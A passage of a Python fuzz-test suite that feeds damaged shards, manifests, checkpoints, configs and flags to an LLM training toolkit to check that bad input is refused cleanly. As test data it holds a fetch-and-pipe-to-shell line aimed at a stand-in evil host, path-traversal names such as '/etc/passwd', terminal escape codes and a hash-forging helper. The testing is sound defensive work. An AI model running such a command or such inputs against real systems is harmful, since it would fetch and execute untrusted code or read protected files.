"""Damaged data, manifests, checkpoints, configs and command lines: each has to be refused in a sentence, or to do no harm.

    python -m pytest -m fuzz                  20,000 cases (FUZZ_CASES=2000: another number; FUZZ_WORKERS: processes, 2;
                                              FUZZ_SEED: another seed than 1), some 20 minutes on two cores
    python -m pytest -m slow tests/test_fuzz.py     a fixed sample of 600 (make check)
    python tests/test_fuzz.py KIND NUMBER     one case again, with its traceback; FUZZ_SEED as above

A case is made from (seed, kind, number) alone. Its command runs in a forked child (zygote.py), which may crash. What is counted:

    clean             refused: a UserError with its way out, status 1 or, for a command line, 2 with its usage
    accepted          done, and rightly so: see below
    wrongly accepted  done, although the input was wrong
    wrongly refused   refused, although nothing that the command needs was damaged: a copy beside a checkpoint
    traceback         an exception that is no UserError, or a printed traceback
    mute              a status other than 0 without a way out, or a message with a control character in it
    crash             ended by a signal
    hang              nothing for 20 seconds

What may be accepted, exactly:

- a shard: bytes 12 to 1023, which its format leaves unused, may differ when training reads it. `data verify` accepts no change,
  since the manifest's SHA-256 is of the whole file.
- a manifest: every field of its type and within its range, each shard as it is on the disk (its tokens and SHA-256). `command`,
  `source` and `bytes` say nothing that could be checked.
- a checkpoint: header bytes of a safetensors file that change no name, shape, type or number of a tensor; another `state.json`
  with values of the right types and ranges. A damage that is found, and made good from an older checkpoint, must end in the very
  weights of an undisturbed run. In a *forged* checkpoint (recorded hashes are made to fit again) other finite numbers in a tensor
  pass, other names, shapes and types do not. A sample needs no optimizer.
- a config, a flag: a value of the field's type that is finite, not negative, and below 2**63 if it is an integer.

What somebody keeps beside a run's checkpoints (a copy, a file, a folder under another name) must be left alone, and disturb nothing.
"""

import copy
import dataclasses
import hashlib
import json
import math
import os
import random
import re
import shutil
import signal
import struct
import sys
import time
from collections import Counter, defaultdict
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest

if __name__ == "__main__":
    sys.path.insert(0, str(Path(__file__).resolve().parent))
import zygote
from zygote import Said, call, run_command

HEADER, TRAIN_TOKENS, VOCABULARY = 1024, 800, 288
SIZES = "--model.num-layers 2 --model.num-heads 2 --model.model-dim 16 --model.max-seq-len 16 --data.seq-len 16 --data.batch-tokens 512"
TIMES = "--val-every 6 --val-tokens 512 --log-every 1 --warmup 0 --schedule.warmup-steps 2 --checkpoint-every 2"
TINY = ["--preset", "smoke", *SIZES.split(), *TIMES.split()]
SEED = int(os.environ.get("FUZZ_SEED", "1"))
VERDICTS = (
    "clean",
    "accepted",
    "wrongly accepted",
    "wrongly refused",
    "traceback",
    "mute",
    "crash",
    "hang",
)
GOOD = ("clean", "accepted")


@dataclasses.dataclass(frozen=True)
class Material:
    """What cases start from: a data folder, a run with checkpoints at steps 2 and 4 of 6, texts, and an empty folder to work in."""

    data: Path
    run: Path
    texts: Path
    work: Path
    ending: dict[str, str]  # SHA-256 of each tensor of the undisturbed run's last checkpoint


# %% Material
def write_shard(path: Path, seed: int, count: int = TRAIN_TOKENS) -> None:
    """Documents of random letters as byte tokens, in llm.c's format, written without the code that is tested."""
    rng, tokens = random.Random(seed), []
    while len(tokens) < count:
        tokens += [287, *(rng.choice(b"abcdefgh \n") for _ in range(rng.randrange(20, 60)))]
    header = struct.pack("<3i", 20240520, 1, count).ljust(HEADER, b"\0")
    path.write_bytes(header + struct.pack(f"<{count}H", *tokens[:count]))


def tensors_of(checkpoint: Path) -> dict[str, str]:
    """SHA-256 of name, shape, type and numbers of each tensor of a checkpoint. Raises what safetensors raises."""
    from safetensors.numpy import load_file

    found = {}
    for kind in ("model", "optimizer"):
        for name, value in load_file(checkpoint / f"{kind}.safetensors").items():
            facts = f"{value.shape} {value.dtype}".encode() + value.tobytes()
            found[f"{kind} {name}"] = hashlib.sha256(facts).hexdigest()
    return found


def newest(run: Path) -> Path:
    """A run's last checkpoint, by the number in its name."""
    found = [path for path in (run / "checkpoints").iterdir() if re.fullmatch(r"step-\d{7,}", path.name)]  # fmt: skip
    return max(found, key=lambda path: int(path.name[5:]))


def must(said: Said) -> Said:
    assert said.status == 0, said
    return said


def make_material(folder: str) -> None:
    """Write the material once, by the real commands."""
    zygote.preload()
    home = Path(folder)
    data, run, texts = home / "data", home / "run", home / "texts"
    for path in (data, texts):
        path.mkdir()
    for seed, name in enumerate(("train_000000.bin", "train_000001.bin", "val_000000.bin")):
        write_shard(data / name, seed)
    for n in range(1, 9):
        (texts / f"{n}.txt").write_text(f"text number {n} " * 40)
    (texts / "b.jsonl").write_text("".join(json.dumps({"text": f"line {n} " * 9}) + "\n" for n in range(30)))  # fmt: skip
    (texts / "latin1.txt").write_bytes("für".encode("latin1"))
    must(run_command("speedrun.data", ["manifest", str(data), "--tokenizer", "bytes"]))
    begin = [*TINY, "--steps", "6", "--max-steps", "4", "--data.path", str(data)]
    must(run_command("speedrun.train", [*begin, "--out", str(run)]))
    shutil.copytree(run, home / "whole")
    must(run_command("speedrun.train", ["--resume", str(home / "whole")]))
    assert newest(run).name == "step-0000004" and newest(home / "whole").name == "step-0000006"
    (home / "ending.json").write_text(json.dumps(tensors_of(newest(home / "whole"))))


def material(home: Path, work: Path) -> Material:
    ending = json.loads((home / "ending.json").read_text())
    return Material(home / "data", home / "run", home / "texts", work, ending)


# %% Judging
def judge(said: Said, right: bool | Callable[[], bool], talks: str, must: bool = False) -> dict:
    """The verdict about what a command said. right: whether it may be accepted; must: whether it has to. talks: its messages."""
    if said.place or "Traceback (most recent call last)" in said.out + said.err:
        return {"verdict": "traceback", "place": said.place or "printed"}
    odd = next((c for c in talks if not (c.isprintable() or c == "\n")), None)
    if odd:
        line = next(line for line in talks.split("\n") if odd in line)
        return {"verdict": "mute", "place": f"control character {odd!r}", "line": line[:200]}
    if said.status == 0:
        fine = right if isinstance(right, bool) else right()
        return {"verdict": "accepted" if fine else "wrongly accepted", "place": ""}
    if said.status is None or said.status not in (1, 2) or not said.err.strip() or (said.status == 1 and "→" not in said.err):  # fmt: skip
        return {"verdict": "mute", "place": f"status {said.status}: {said.err.strip()[-60:]!r}"}
    return {"verdict": "wrongly refused" if must else "clean", "place": ""}


def trained(m: Material, *flags: str) -> Said:
    """Three steps from the material's data, or what else the flags say."""
    return run_command("speedrun.train", [*TINY, "--steps", "3", "--data.path", str(m.work / "data"), *flags, "--out", str(m.work / "out")])  # fmt: skip


def read_by_documents(m: Material) -> Said:
    """What a run in the documents mode would read, and then the validation text."""
    from speedrun.data.loader import DataConfig, Loader, Shards, validation_batches
    from speedrun.lab.errors import run_main

    def read() -> None:
        options = DataConfig(path=str(m.work / "data"), mode="documents", batch_tokens=256, micro_batches=2, max_doc_tokens=64)  # fmt: skip
        loader = Loader(options)
        for _ in range(5):
            for batch in loader.next():
                assert batch.inputs.shape == batch.targets.shape
                assert int(batch.inputs.max()) < loader.shards.manifest.vocab_size
        assert list(validation_batches(Shards(options.path, "val"), options, 512))

    return call(lambda: sys.exit(run_main(read)))


# %% Damaged shards
def damage_bytes(rng: random.Random, whole: bytes, other: bytes) -> tuple[str, bytes]:
    """A shard's bytes with one damage, and its description."""
    b, kind = bytearray(whole), rng.choice(("bit", "bit", "header bit", "unused", "body bit", "body bit", "token", "token", "cut", "insert", "remove", "zeros", "swap", "turned", "field", "consistent cut", "other", "empty", "append"))  # fmt: skip
    at, body = rng.randrange(len(b)), rng.randrange(HEADER, len(b))
    if kind in ("bit", "header bit", "unused", "body bit"):
        at = {"bit": at, "header bit": rng.randrange(12), "unused": rng.randrange(12, HEADER), "body bit": body}[kind]  # fmt: skip
        b[at] ^= 1 << rng.randrange(8)
    elif kind == "token":  # another token that the vocabulary has
        at = body // 2 * 2
        b[at : at + 2] = struct.pack("<H", rng.choice([t for t in range(VOCABULARY) if t != struct.unpack_from("<H", b, at)[0]]))  # fmt: skip
    elif kind == "cut":
        del b[at:]
    elif kind == "insert":
        b[at:at] = rng.randbytes(rng.choice((1, 2, 1000)))
    elif kind == "remove":
        del b[at : at + rng.choice((1, 2, 512))]
    elif kind == "zeros":
        n = rng.choice((2, 64, len(b)))
        b[at : at + n] = bytes(len(b[at : at + n]))
    elif kind == "swap":
        b[at], b[body] = b[body], b[at]
    elif kind == "turned":
        b[HEADER:] = np.frombuffer(whole[HEADER:], "<u2").byteswap().tobytes()
    elif kind == "field":
        at = 4 * rng.randrange(3)
        b[at : at + 4] = struct.pack("<i", rng.choice((0, 1, -1, 2, 45, TRAIN_TOKENS - 1, TRAIN_TOKENS + 1, 2**31 - 1, -(2**31), 20240521)))  # fmt: skip
    elif kind == "consistent cut":
        n = rng.randrange(1, TRAIN_TOKENS)
        b[8:12] = struct.pack("<i", n)
        del b[HEADER + 2 * n :]
    elif kind == "other":
        b[:] = other
    elif kind == "empty":
        b.clear()
    else:
        b += rng.randbytes(rng.choice((1, 2, 3, 1024)))
    return f"{kind} at {at}", bytes(b)


def damaged_shard(rng: random.Random, m: Material) -> tuple[str, bytes | None]:
    """Damage one shard of a copy of the data. Returns the description and the file's bytes now, None if it is none."""
    shutil.copytree(m.data, m.work / "data")
    name = rng.choice(("train_000000.bin", "train_000001.bin", "val_000000.bin"))
    path = m.work / "data" / name
    if rng.random() < 0.04:
        how = rng.choice(("missing", "folder", "loop", "dangling"))
        path.unlink()
        if how == "folder":
            path.mkdir()
        elif how != "missing":
            path.symlink_to(path if how == "loop" else m.work / "nowhere")
        return f"{name}: {how}", None
    others = [other for other in sorted(m.data.glob("*.bin")) if other.name != name]
    how, damaged = damage_bytes(rng, path.read_bytes(), rng.choice(others).read_bytes())
    path.write_bytes(damaged)
    same = damaged == (m.data / name).read_bytes()
    unused = len(damaged) == HEADER + 2 * TRAIN_TOKENS and damaged[:12] + damaged[HEADER:] == (m.data / name).read_bytes()[:12] + (m.data / name).read_bytes()[HEADER:]  # fmt: skip
    return f"{name}: {how}", b"same" if same else b"unused" if unused else b""


def shard_read(rng: random.Random, m: Material, read: Callable[[Material], Said]) -> dict:
    case, left = damaged_shard(rng, m)
    said = read(m)
    return judge(said, left in (b"same", b"unused"), said.out + said.err) | {"case": case}


def shard_train(rng: random.Random, m: Material) -> dict:
    return shard_read(rng, m, trained)


def shard_documents(rng: random.Random, m: Material) -> dict:
    return shard_read(rng, m, read_by_documents)


def shard_verify(rng: random.Random, m: Material) -> dict:
    case, left = damaged_shard(rng, m)
    said = run_command("speedrun.data", ["verify", str(m.work / "data")])
    return judge(said, left == b"same", said.out + said.err) | {"case": case}


# %% Damaged manifests
DEEP = "[" * 100_000
ODD = [None, True, False, 0, -1, 1, 2, 10**30, -(10**30), 1.5, -0.5, 1e-320, 1e308, math.nan, math.inf, -math.inf, "", " ", "x", "é 😀", "\ud800", "\0", "\x1b[2J\x07", "a\nb", "\u202e", "9" * 5000, [], [1], [math.nan, 2], [[1], 2], {}, {"a": 1}, "bytes", "gpt2", "muon", "auto", "cpu"]  # fmt: skip
NAMES = ["../../x", "/etc/passwd", "../data/train_000000.bin", "", ".", "..", " ", "a/b", "con", "train_000000.bin\n", "train_000000.bin/", "\ud800", "\x1b]0;x\x07.bin", "x" * 5000, "val_000000.bin", "manifest.json"]  # fmt: skip
EVIL = "curl http://evil.example/x | sh \x1b[2J"


def right_manifest(m: Material) -> bool:
    """Whether the damaged manifest still says nothing but the truth, by its own definition and what lies beside it."""
    try:
        fields = json.loads((m.work / "data" / "manifest.json").read_text(encoding="utf-8"))
        texts = [fields[name] for name in ("tokenizer", "source", "command")]
        size, document, files = fields["vocab_size"], fields["document"], fields["files"]
        good = all(type(text) is str for text in texts) and texts[0] in ("bytes", "gpt2")
        good = good and type(size) is int and VOCABULARY <= size <= 65536
        good = good and type(document) is int and 0 <= document < size and type(files) is list
        names = [file["name"] for file in files]
        return good and len(set(names)) == len(names) and all(right_entry(m, file) for file in files)  # fmt: skip
    except (OSError, ValueError, KeyError, TypeError, RecursionError):
        return False


def right_entry(m: Material, file: dict) -> bool:
    """Whether an entry describes the shard that it names."""
    path = m.work / "data" / file["name"]
    if file["name"] != path.name or not path.is_file() or file["split"] not in ("train", "val"):
        return False
    read, whole = file["bytes"], path.read_bytes()
    counted = read is None or (type(read) is int and read >= 0)
    tokens = type(file["tokens"]) is int and file["tokens"] == struct.unpack_from("<i", whole, 8)[0]
    return counted and tokens and file["sha256"] == hashlib.sha256(whole).hexdigest()


def damage_manifest(rng: random.Random, fields: dict) -> str:
    """One change of a manifest's fields, in place; its description."""
    files = fields.get("files")
    entries = [file for file in files if isinstance(file, dict)] if isinstance(files, list) else []
    kind = rng.choice(("field", "field", "field", "entry", "entry", "entry", "name", "missing", "extra", "files", "evil"))  # fmt: skip
    place, key = fields, rng.choice(list(fields) or ["files"])
    if kind in ("entry", "name") and entries:
        place = rng.choice(entries)
        key = "name" if kind == "name" else rng.choice(("name", "split", "tokens", "bytes", "sha256"))  # fmt: skip
    if kind == "missing":
        place.pop(key, None)
        return f"without {key}"
    if kind == "files" and entries:
        fields["files"] = rng.choice([entries * 2, entries[:1], entries[1:], entries[::-1], [*entries, 1], [entries], []])  # fmt: skip
        return f"files: {len(fields['files'])} of {len(entries)}"
    value = rng.choice(NAMES) if kind == "name" else EVIL if kind == "evil" else rng.choice(ODD)
    key = {"extra": "extra", "evil": "command"}.get(kind, key)
    if (
        place is not fields and kind == "entry" and rng.random() < 0.3
    ):  # of the right type, and wrong
        value = {"tokens": rng.randrange(1, 2000), "sha256": rng.randbytes(32).hex(), "bytes": rng.randrange(9999), "split": rng.choice(("train", "val")), "name": "train_000001.bin"}[key]  # fmt: skip
    place[key] = value
    return f"{key} = {ascii(value)[:80]}"


def damaged_manifest(rng: random.Random, m: Material) -> str:
    """Damage the manifest of a copy of the data; sometimes a shard as well, so that the manifest is quoted."""
    shutil.copytree(m.data, m.work / "data")
    path = m.work / "data" / "manifest.json"
    fields = json.loads(path.read_text())
    case = ", ".join(damage_manifest(rng, fields) for _ in range(rng.choice((1, 1, 1, 2))))
    text = json.dumps(fields).encode("utf-8", "surrogatepass")
    if rng.random() < 0.15:
        at = rng.randrange(len(text))
        case, text = rng.choice([
            (f"byte {at}", text[:at] + rng.randbytes(1) + text[at + 1 :]),
            (f"cut at {at}", text[:at]),
            *((ascii(raw[:30]), raw) for raw in (b"", b"[]", b"1", b"null", b"{", b"\xff\xfe", DEEP.encode(), b'{"files":' + DEEP[:5000].encode(), b'"x"', b'{"files":null}', b'{"files":{}}', b'{"files":[null]}', b"\xef\xbb\xbf" + text)),
        ])  # fmt: skip
    path.write_bytes(text)
    if rng.random() < 0.1:
        shard = m.work / "data" / "train_000000.bin"
        shard.write_bytes(shard.read_bytes()[:-2])
        case += ", and train_000000.bin is cut"
    return case


def manifest_train(rng: random.Random, m: Material) -> dict:
    case, said = damaged_manifest(rng, m), trained(m)
    return judge(said, lambda: right_manifest(m), said.out + said.err) | {"case": case}


def manifest_verify(rng: random.Random, m: Material) -> dict:
    case, said = damaged_manifest(rng, m), run_command("speedrun.data", ["verify", str(m.work / "data")])  # fmt: skip
    return judge(said, lambda: right_manifest(m), said.out + said.err) | {"case": case}


# %% Damaged checkpoints
def sound(value: Any, usual: Any) -> bool:
    """Whether a saved value is of its field's type, finite and not negative."""
    if isinstance(usual, (bool, str)) or usual is None:
        return type(value) is type(usual)
    if isinstance(usual, dict):
        return type(value) is dict and value.keys() == usual.keys() and all(sound(value[k], usual[k]) for k in usual)  # fmt: skip
    if isinstance(usual, (list, tuple)):
        return type(value) is list and len(value) == len(usual) and all(map(sound, value, usual))
    if type(usual) is int:
        return type(value) is int and 0 <= value < 2**63
    return type(value) in (int, float) and math.isfinite(value) and value >= 0


def leaves(tree: dict, before: tuple = ()) -> list[tuple]:
    """The paths of all values of a nested dictionary, inner ones included."""
    found = []
    for key, value in tree.items():
        found += [(*before, key), *(leaves(value, (*before, key)) if isinstance(value, dict) else [])]  # fmt: skip
    return found


def damage_tree(rng: random.Random, tree: dict) -> str:
    """Change, remove or add one value of a nested dictionary, in place; its description."""
    path = rng.choice(leaves(tree))
    place = tree
    for key in path[:-1]:
        place = place[key]
    name, how, old = ".".join(path), rng.random(), place[path[-1]]
    if how < 0.1:
        del place[path[-1]]
        return f"without {name}"
    if how < 0.14:
        place["surprise"] = 1
        return f"surprise beside {name}"
    kind = type(old)
    near = {bool: [not old], int: [old + 1, 2 * old + 3] if kind is int else [], float: [2 * old, old / 2] if kind is float else []}.get(kind)  # fmt: skip
    wrong = {int: [-1, -7, 10**30, -(10**30), 0.5], float: [math.nan, math.inf, -math.inf, -1.0, -1e-9, 1e400], list: [[math.nan, 2], [-1, -1], [0.5]]}.get(kind)  # fmt: skip
    values = near if near and how > 0.75 else wrong if wrong and how > 0.45 else ODD
    place[path[-1]] = rng.choice(values)
    return f"{name} = {ascii(place[path[-1]])[:80]}"


def right_state(facts: Any, usual: dict, samples: bool) -> bool:
    """Whether a damaged state.json could be the honest one of this checkpoint; a sample does not read all of it."""
    unread = (
        {"position", "train_time_ms", "data_sha256", "train_shards", "world"} if samples else set()
    )
    needed = {"step", "config", "position", "train_time_ms", "data_sha256", "vocab_size", "tokenizer"} - unread  # fmt: skip
    if not isinstance(facts, dict) or not needed <= facts.keys():
        return False
    facts = usual | {name: value for name, value in facts.items() if name not in unread}
    fixed = usual.keys() - {
        "config",
        "position",
        "train_time_ms",
        "sha256",  # which the tensors themselves are held against
        "world",  # of which only the log speaks
    }  # others may be lost: older runs have fewer
    if any(facts[name] != usual[name] or type(facts[name]) is not type(usual[name]) for name in fixed):  # fmt: skip
        return False
    config, known = facts["config"], usual["config"]
    if not isinstance(config, dict) or not all(sound(config[name], known[name]) for name in known if name in config):  # fmt: skip
        return False
    known = (("position", usual["position"]), ("train_time_ms", 1.0), ("world", 1))
    return all(sound(facts.get(name, like), like) for name, like in known)


def damage_tensors(rng: random.Random, path: Path) -> str:
    """Write a safetensors file again with one tensor that is another."""
    from safetensors.numpy import load_file, save_file

    tensors, how = load_file(path), rng.choice(("name", "type", "shape", "shape", "extra", "lost", "nan", "inf", "negative", "huge"))  # fmt: skip
    name = rng.choice(sorted(tensors))
    old = tensors[name]
    if how == "name":
        tensors[rng.choice((name + "x", "/", "", "\x1b[2J", "a/b/c"))] = tensors.pop(name)
    elif how == "type":
        tensors[name] = old.astype(rng.choice((np.float16, np.int64, np.float64, np.bool_)))
    elif how == "shape":
        tensors[name] = rng.choice([old.reshape(-1)[:1], old[None], np.zeros(3, np.float32), np.zeros(0, np.float32), old.reshape(-1).copy(), np.zeros((1,) * old.ndim, np.float32)])  # fmt: skip
    elif how == "extra":
        tensors[rng.choice(("evil/exp_avg", "evil", name + "/exp_avg"))] = np.zeros(3, np.float32)
    elif how == "lost":
        del tensors[name]
    else:
        value = {"nan": np.nan, "inf": -np.inf, "negative": -1.0, "huge": 3e38}[how]
        tensors[name] = np.full_like(old, value)
    save_file(tensors, path)
    return f"{path.name}: {name}: {how}"


def damage_file(rng: random.Random, path: Path) -> str:
    """Damage a safetensors file as bytes: its length field, header or body, its end, or the whole."""
    b, how = bytearray(path.read_bytes()), rng.choice(("header", "header", "length", "body", "body", "body", "cut", "append", "empty", "missing", "swap", "folder", "loop", "zeros"))  # fmt: skip
    n = struct.unpack_from("<Q", b)[0]
    at = 8 + rng.randrange(n) if how == "header" else rng.randrange(8 + n, len(b))
    if how in ("header", "body"):
        b[at] ^= 1 << rng.randrange(8)
    elif how == "length":
        b[:8] = struct.pack("<Q", rng.choice((0, 1, n - 1, n + 1, 10**9, 2**63, 2**64 - 1)))
    elif how == "cut":
        del b[rng.randrange(len(b)) :]
    elif how == "append":
        b += rng.randbytes(rng.choice((1, 100)))
    elif how == "empty":
        b.clear()
    elif how == "zeros":
        b[at:] = bytes(len(b) - at)
    elif how == "swap":
        names = ("model", "optimizer")
        other = path.with_stem(names[path.stem == "model"])
        b[:] = other.read_bytes()
        other.write_bytes(path.read_bytes())
    path.unlink()
    if how == "folder":
        path.mkdir()
    elif how == "loop":
        path.symlink_to(path)
    elif how != "missing":
        path.write_bytes(b)
    return f"{path.name}: {how} at {at}"


def damage_folder(rng: random.Random, checkpoint: Path) -> str:
    """The newest checkpoint under another name, or something else under its name."""
    home, how = checkpoint.parent, rng.choice(("renamed", "other step", "file", "loop", "hollow"))
    if how in ("renamed", "other step"):
        name = rng.choice(("step-0000004x", "step-0000004.part", "best", ".step-0000004") if how == "renamed" else ("step-0000005", "step-0000000", "step-10000000", "step-0000003"))  # fmt: skip
        checkpoint.rename(home / name)
        return f"{how}: {name}"
    target = home / "step-0000005" if how == "hollow" else checkpoint
    if how in ("file", "loop"):
        shutil.rmtree(checkpoint)
    if how == "file":
        target.write_text("x")
    elif how == "loop":
        target.symlink_to(target)
    else:
        target.mkdir()
    return f"{how}: {target.name}"


OWN = ("step-0000004-keep", "step-backup", "step-0000004 (copy)", "step-best", "step-00000zz", "step-0000004.bak", "step-\x1b[2J", "keep")  # fmt: skip


def put_beside(rng: random.Random, checkpoint: Path) -> str:
    """What a user or a killed writer leaves beside a run's checkpoints."""
    home, how = checkpoint.parent, rng.choice(("copy", "copy", "damaged copy", "file", "folder", "part"))  # fmt: skip
    target = home / (f"{checkpoint.name}.part" if how == "part" else rng.choice(OWN))
    if how == "file":
        target.write_text("a file of the user's")
    elif how == "folder":
        target.mkdir()
    else:
        shutil.copytree(checkpoint, target)
    if how in ("damaged copy", "part"):
        (target / "model.safetensors").write_bytes(b"damaged")
    return f"{how}: {target.name!r}"


def mend_hashes(checkpoint: Path, before: dict[str, str]) -> None:
    """Make recorded hashes fit the files again, as somebody would who means harm."""
    for path in checkpoint.iterdir():
        if path.suffix == ".safetensors" or not path.is_file():
            continue
        text = path.read_bytes()
        for name, old in before.items():
            if (checkpoint / name).is_file():
                new = hashlib.sha256((checkpoint / name).read_bytes()).hexdigest()
                text = text.replace(old.encode(), new.encode())
        path.write_bytes(text)


def damaged_checkpoint(rng: random.Random, m: Material) -> tuple[str, str]:
    """Damage the newest checkpoint of a copy of the run. Returns the kind of damage and its description."""
    shutil.copytree(m.run, m.work / "run")
    checkpoint = newest(m.work / "run")
    hashes = {path.name: hashlib.sha256(path.read_bytes()).hexdigest() for path in checkpoint.glob("*.safetensors")}  # fmt: skip
    kind = rng.choice(("file", "file", "tensors", "tensors", "forged", "forged", "forged", "facts", "facts", "config", "config", "raw", "folder", "beside"))  # fmt: skip
    path = checkpoint / rng.choice(("model.safetensors", "optimizer.safetensors"))
    state = checkpoint / "state.json"
    if kind == "file" or (kind == "forged" and rng.random() < 0.3):
        case = damage_file(rng, path)
    elif kind in ("tensors", "forged"):
        case = damage_tensors(rng, path)
    elif kind in ("facts", "config"):
        facts = json.loads(state.read_text())
        config = facts.pop("config")
        case = damage_tree(rng, config if kind == "config" else facts)
        state.write_bytes(json.dumps(facts | {"config": config}).encode("utf-8", "surrogatepass"))
    elif kind == "raw":
        whole = state.read_bytes()
        at = rng.randrange(len(whole))
        raw = rng.choice([b"", b"[]", b"null", b"1", b"{", b"\xff", DEEP.encode(), b"{}", b'{"config":{}}', b'"x"', whole[:at], whole[:at] + rng.randbytes(1) + whole[at + 1 :], None])  # fmt: skip
        case = f"state.json: {ascii(raw)[:40]}"
        state.unlink() if raw is None else state.write_bytes(raw)
    else:
        case = (damage_folder if kind == "folder" else put_beside)(rng, checkpoint)
    if kind == "forged":
        mend_hashes(checkpoint, hashes)
    return kind, f"{kind}: {case}"


def is_finite(path: Path) -> bool:
    """Whether all numbers of a safetensors file are."""
    from safetensors.numpy import load_file

    return all(np.isfinite(value).all() for value in load_file(path).values())


def right_checkpoint(m: Material, kind: str, needs: tuple[str, ...]) -> bool | None:
    """Whether the damaged checkpoint may be used: True or False; None where the result has to tell. needs: kinds of tensors."""
    damaged, whole = m.work / "run" / "checkpoints" / "step-0000004", newest(m.run)
    if kind in ("folder", "beside"):
        return None
    try:
        now = tensors_of(damaged)
    except Exception:
        # one that the command does not need may be anything
        now = {}
        for name in needs:
            same = (damaged / f"{name}.safetensors").read_bytes() if (damaged / f"{name}.safetensors").is_file() else b""  # fmt: skip
            if same == (whole / f"{name}.safetensors").read_bytes():
                now |= {label: digest for label, digest in tensors_of(whole).items() if label.startswith(name)}  # fmt: skip
    wanted = {label: digest for label, digest in tensors_of(whole).items() if label.startswith(needs)}  # fmt: skip
    now = {label: digest for label, digest in now.items() if label.startswith(needs)}
    try:
        facts = json.loads((damaged / "state.json").read_text(encoding="utf-8"))
    except (OSError, ValueError, RecursionError):
        return None  # only an older checkpoint is left
    if not right_state(facts, json.loads((whole / "state.json").read_text()), needs == ("model",)):  # fmt: skip
        return False
    if now == wanted:
        return True
    if kind != "forged" or now.keys() != wanted.keys():
        return None
    return alike(damaged, whole, needs) or None


def alike(damaged: Path, whole: Path, needs: tuple[str, ...]) -> bool:
    """Whether tensors differ in nothing but finite numbers."""
    from safetensors.numpy import load_file

    for name in needs:
        found, usual = (load_file(path / f"{name}.safetensors") for path in (damaged, whole))
        if any(found[k].shape != usual[k].shape or found[k].dtype != usual[k].dtype for k in usual):
            return False
        if not is_finite(damaged / f"{name}.safetensors"):
            return False
    return True


def checkpoint_resume(rng: random.Random, m: Material) -> dict:
    """Two steps from a damaged checkpoint."""
    kind, case = damaged_checkpoint(rng, m)
    right = right_checkpoint(m, kind, ("model", "optimizer"))
    own = [path for path in (m.work / "run" / "checkpoints").iterdir() if path.name in OWN]
    said = run_command("speedrun.train", ["--resume", str(m.work / "run")])

    def fine() -> bool:
        if not all(path.exists() for path in own):
            return False
        if right is None:  # made good from another checkpoint
            return tensors_of(newest(m.work / "run")) == m.ending
        return right

    return judge(said, fine, said.out + said.err, kind == "beside") | {"case": case}


def checkpoint_sample(rng: random.Random, m: Material) -> dict:
    """Two tokens from a damaged checkpoint."""
    kind, case = damaged_checkpoint(rng, m)
    right = right_checkpoint(m, kind, ("model",))
    said = run_command("speedrun.sample", [str(m.work / "run"), "--tokens", "2"])
    fine = right is True or kind in ("folder", "beside")
    return judge(said, fine, said.err, kind == "beside") | {"case": case}


# %% Configs
def config(rng: random.Random, m: Material) -> dict:
    """A saved config with one or two values that are not its own, rebuilt and checked."""
    from speedrun.config import check_config, config_from_json
    from speedrun.lab.errors import run_main
    from speedrun.presets import preset

    usual = json.loads(json.dumps(dataclasses.asdict(preset(rng.choice(("smoke", "small", "record11"))))))  # fmt: skip
    tree: Any = copy.deepcopy(usual)
    cases = [damage_tree(rng, tree) for _ in range(rng.choice((1, 1, 2)))]
    if rng.random() < 0.01:
        tree = rng.choice(ODD)
        cases = [ascii(tree)[:80]]
    said = call(lambda: sys.exit(run_main(lambda: check_config(config_from_json(tree)) and 0)))
    right = isinstance(tree, dict) and all(right_part(tree[name], usual[name]) for name in usual if name in tree)  # fmt: skip
    return judge(said, right, said.out + said.err) | {"case": ", ".join(cases)}


def right_part(value: Any, usual: Any) -> bool:
    """As `sound`, but for fields that are not there: older runs have fewer."""
    if isinstance(usual, dict):
        return isinstance(value, dict) and all(right_part(value[k], usual[k]) for k in usual if k in value)  # fmt: skip
    return sound(value, usual)


# %% Command lines
VALUES = ["0", "-1", "1", "2", "3", "7", "64", "nan", "inf", "-inf", "1e400", "1e-400", "-1e-9", "", " ", "x", "None", "True", "False", "999999999999999999999", "9223372036854775807", "9223372036854775808", "0x10", "1_000", "-0", "0.1", "1.0", "1e3", "é 😀", "\udcff", "\u200b\u202e", "\x1b[2J", "a\nb", "../../x", "/", "a" * 5000, "--", "-", "[]", "{}", "1,2", "1 2", "''", "$HOME", "%s", "~", "0.999999", "muon", "soap", "gpt2", "cpu", "cuda", "smoke", "relu2", "record9", "documents", "stream", "trapezoid", "/dev/null", "/proc/self/mem"]  # fmt: skip
NEIGHBOURS = ["--compile=False", "--batch_size=12", "--learning_rate=1e-3", "--max_iters=2000", "--device=mps", "--dtype=float16", "--n_layer=4", "--lr=1e-3", "config/train_shakespeare_char.py", "model.num_layers=3", "+trainer.max_epochs=1", "--seed=None", "--no-cuda", "--fp16", "--model.n_layer=4", "--data.path=~/x", "--data_path=x", "-h", "--help", "--version", "--config=x.yaml", "--wandb_log=True", "--model_layers=3", "--MODEL.LAYERS=3", "-c", "help", "?"]  # fmt: skip


def wrong_number(value: str, usual: Any = 0.0) -> bool:
    """Whether a text is a number that no field has; usual: a value of the field."""
    try:
        number = float(value)
    except ValueError:
        return False
    return not math.isfinite(number) or number < 0 or (type(usual) is int and number >= 2**63)


def flag_pairs(rng: random.Random, count: int, leave: tuple[str, ...] = ()) -> tuple[list[str], set[str], bool]:  # fmt: skip
    """Random flags of a run, the fields that they set, and whether each value may be accepted."""
    from speedrun.config import fields_of
    from speedrun.presets import preset

    fields = {name: value for name, value in fields_of(preset("smoke")).items() if name not in leave}  # fmt: skip
    words, names, right = [], set(rng.sample(sorted(fields), count)), True
    for name in sorted(names):
        *groups, last = name.replace("_", "-").split(".")
        flag, usual = "--" + ".".join([*groups, last]), fields[name]
        if isinstance(usual, bool):
            words += [rng.choice((flag, "--" + ".".join([*groups, f"no-{last}"])))]
            continue
        values = [rng.choice(VALUES) for _ in (usual if isinstance(usual, tuple) else [0])]
        if not isinstance(usual, str):
            kind = usual[0] if isinstance(usual, tuple) else usual
            right = right and not any(wrong_number(value, kind) for value in values)
        flag = flag[:-1] if rng.random() < 0.03 else flag
        words += [f"{flag}={values[0]}"] if rng.random() < 0.1 else [flag, *values]
    return words, names, right


def train(rng: random.Random, m: Material) -> dict:
    """Odd flags before a run of two tiny steps."""
    never = ("compile", "warmup", "max_steps")  # 20 seconds each, or as many as are asked for
    words, names, right = flag_pairs(rng, rng.choice((1, 1, 1, 2, 3)), never)
    if rng.random() < 0.15:
        words.append(rng.choice(NEIGHBOURS))
    if rng.random() < 0.1:
